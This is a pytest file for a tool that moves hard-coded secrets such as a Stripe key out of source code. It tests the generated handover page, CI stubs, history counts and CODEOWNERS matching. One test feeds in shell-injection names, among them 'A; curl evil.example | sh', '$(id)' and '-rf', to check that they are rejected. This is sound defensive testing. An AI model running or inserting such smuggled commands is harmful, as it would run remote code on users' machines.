"""What a person needs when secrets leave the code: complete, without a value, and dead to hostile names."""

from dataclasses import replace

import pytest

from bot.owners import Owners
from bot.surfaces import follow_up
from bot.surfaces.handover import NOT_SEARCHED, Held, Remembered, gathered, page
from bot.surfaces.markdown import fenced
from tests.bot.surface_samples import HOSTILE, PATCH, alive
from tests.bot.test_surfaces_follow_up import STORY
from tests.transforms.tiny import remedied
from transforms.brokers import brokers
from transforms.controls.no_secret_in_code import control
from transforms.engine import Handover
from transforms.policy import Policy
from transforms.secrets import sample

KEY = sample("stripe-key", 61)
FILES = {
    "pay.py": f'def pay():\n    stripe_api_key = "{KEY}"\n    return stripe_api_key\n',
    "app.py": 'import os\n\n\ndef key():\n    return os.getenv("SECRET_KEY") or "change-me"\n',
}


def handovers(broker: str = "env") -> tuple[Handover, ...]:
    result = remedied(FILES, control, policy=Policy(broker=broker))
    return tuple(each for patch in result.fixed for each in patch.handover)


def held(commits: int) -> Remembered:
    return Remembered({"STRIPE_API_KEY": Held(commits, "2026-01-31" if commits else "")})


def nobody(_path: str) -> str:
    return ""


@pytest.mark.parametrize("broker", [each.id for each in brokers()])
def test_every_broker_gets_its_own_commands_with_a_gap_for_the_value(broker: str) -> None:
    text = page(handovers(broker), nobody, NOT_SEARCHED)
    assert text.count("<value>") == 2
    assert KEY not in text
    assert next(each.title for each in brokers() if each.id == broker) in text


def test_the_manifest_says_where_each_secret_belongs_and_whose_it_is() -> None:
    text = page(handovers("vault"), lambda path: "@acme/payments" if path == "pay.py" else "", NOT_SEARCHED)
    assert "| `STRIPE_API_KEY` | Stripe" in text
    assert "| `secret/$SECRETS_PREFIX/STRIPE_API_KEY` | `@acme/payments` |" in text
    assert "| `secret/$SECRETS_PREFIX/SECRET_KEY` | nobody is named in CODEOWNERS |" in text


def test_a_prefix_of_the_app_s_own_settings_is_no_part_of_the_name_to_attest() -> None:
    settings = (
        "from pydantic_settings import BaseSettings\n\n\nclass Settings(BaseSettings):\n"
        "    model_config = {'env_prefix': 'SHOP_'}\n    currency: str\n\n\nsettings = Settings()\n"
    )
    code = f'def pay():\n    stripe_api_key = "{KEY}"\n    return settings, stripe_api_key\n'
    pay = f"from config import settings\n\n\n{code}"
    result = remedied({"config.py": settings, "pay.py": pay}, control)
    text = page([each for patch in result.fixed for each in patch.handover], nobody, NOT_SEARCHED)
    assert "export SHOP_STRIPE_API_KEY=<value>" in text
    assert "`tenon secrets attest STRIPE_API_KEY --rotated`" in text


def test_tests_in_ci_get_stubs() -> None:
    text = page(handovers(), nobody, NOT_SEARCHED)
    words = '"for-tests-only-and-never-the-real-secret"'
    assert f"env:\n  SECRETS_BACKEND: env\n  SECRET_KEY: {words}\n  STRIPE_API_KEY: {words}\n" in text


def test_a_leaked_secret_is_to_be_rotated_where_its_vendor_says_and_attested() -> None:
    text = page(handovers(), nobody, NOT_SEARCHED)
    assert "`STRIPE_API_KEY`: make a new value at `https://dashboard.stripe.com/apikeys`" in text
    assert "`tenon secrets attest STRIPE_API_KEY --rotated`" in text
    assert "attest SECRET_KEY" not in text  # a placeholder never was a secret


@pytest.mark.parametrize(
    ("past", "said"),
    [
        (NOT_SEARCHED, "`tenon secrets history` counts where"),
        (held(1), "still holds the old value, written by 1 commit since 2026-01-31."),
        (held(12), "still holds the old value, written by 12 commits since 2026-01-31."),
        (
            Remembered({"STRIPE_API_KEY": Held(2, "2026-01-31", holding=40)}),
            "still holds the old value, in the files of 40 commits since 2026-01-31, written by 2 commits.",
        ),
        (
            Remembered({"STRIPE_API_KEY": Held(1, "2026-01-31", holding=1)}),
            "still holds the old value, in the files of 1 commit since 2026-01-31, written by 1 commit.",
        ),
        (held(0), "no commit holds the old value."),
        (
            Remembered({"STRIPE_API_KEY": Held(3, "2026-01-31", searched=120)}),
            "still holds the old value, written by 3 commits since 2026-01-31, in the 120 commits that were searched",
        ),
        (
            Remembered({"STRIPE_API_KEY": Held(0, "", searched=120)}),
            "of 120 commits searched none holds the old value in these files",
        ),
        (Remembered(unsearched="it is on holiday"), "the history was not searched (it is on holiday)"),
    ],
)
def test_the_history_is_counted_where_somebody_counted_it(past: Remembered, said: str) -> None:
    assert said in page(handovers(), nobody, past)


def test_what_a_scanner_will_say_is_said_before_it_does() -> None:
    assert "A scanner that reads diffs may flag this change" in page(handovers(), nobody, NOT_SEARCHED)


def test_nothing_is_said_where_no_secret_leaves_the_code() -> None:
    assert page((), nobody, NOT_SEARCHED) == ""
    assert "Secrets that leave" not in follow_up.body(STORY)


def test_the_body_of_a_pull_request_has_it_with_owners_and_counts() -> None:
    patch = replace(PATCH, handover=handovers())
    story = replace(STORY, patches=(patch,), owners={"pay.py": "@acme/pay"}, past=held(3))
    body = follow_up.body(story)
    assert "### Secrets that leave the code" in body
    assert "`@acme/pay`" in body
    assert (
        "- [ ] `STRIPE_API_KEY`: the history still holds the old value, written by 3 commits since 2026-01-31." in body
    )
    assert body.count("by 3 commits") == 2


def test_a_secret_of_several_files_is_handed_over_once() -> None:
    (first, *_) = handovers()
    (only,) = gathered((first, replace(first, paths=("other.py",), placeholder=True)))
    assert only.paths == (*first.paths, "other.py")
    assert not only.placeholder or first.placeholder


def test_hostile_names_stay_dead() -> None:
    (first, *_) = handovers()
    hostile = replace(first, name=HOSTILE, kept_at=HOSTILE, commands=(HOSTILE,), setup=(HOSTILE,), placeholder=False)
    assert alive(page((hostile,), lambda _path: HOSTILE, Remembered({HOSTILE: Held(2, HOSTILE)}, HOSTILE))) == []


def test_no_line_closes_a_fence() -> None:
    lines = fenced("~~~~~~~~~~\na\x00b", "sh").splitlines()
    assert lines == ["~" * 11 + "sh", "~" * 10, "a b", "~" * 11]


@pytest.mark.parametrize("name", ["A; curl evil.example | sh", "$(id)", "A`id`", "A\nB", "-rf"])
def test_a_name_that_a_shell_would_obey_is_never_handed_over(name: str) -> None:
    code = f'import os\n\n\ndef f():\n    return os.getenv({name!r}, "{KEY}")\n'
    assert not remedied({"app.py": code}, control).fixed


# --- owners


PATTERNS = {
    "*": "a/b.py",
    "*.py": "a/b.py",
    "/a": "a/b.py",
    "a/": "a/b.py",
    "/a/*": "a/b.py",
    "a/**": "a/x/b.py",
    "**/x/b.py": "a/x/b.py",
    "b.py": "a/b.py",
}
OTHERS = {"/b.py": "a/b.py", "a/*": "a/x/b.py", "c/": "a/b.py", "*.js": "a/b.py", "b?.py": "a/b.py"}


@pytest.mark.parametrize(("pattern", "path"), PATTERNS.items(), ids=PATTERNS)
def test_a_pattern_owns(pattern: str, path: str) -> None:
    assert Owners(f"{pattern} @acme/x").of_path(path) == "@acme/x"


@pytest.mark.parametrize(("pattern", "path"), OTHERS.items(), ids=OTHERS)
def test_a_pattern_does_not_own(pattern: str, path: str) -> None:
    assert Owners(f"{pattern} @acme/x").of_path(path) == ""


def test_the_last_pattern_that_matches_decides() -> None:
    owners = Owners("# who\n* @a @b\n/docs\n/docs/x.md @c # writer\n")
    assert owners.of_path("a.py") == "@a @b"
    assert owners.of_path("docs/y.md") == ""
    assert owners.of_path("docs/x.md") == "@c"
